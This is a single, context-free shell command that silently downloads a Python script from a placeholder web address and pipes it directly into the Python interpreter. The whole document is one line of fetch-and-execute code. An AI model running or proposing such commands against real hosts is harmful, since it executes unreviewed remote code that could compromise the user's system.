curl -s http://example.com/a.py | python3 -
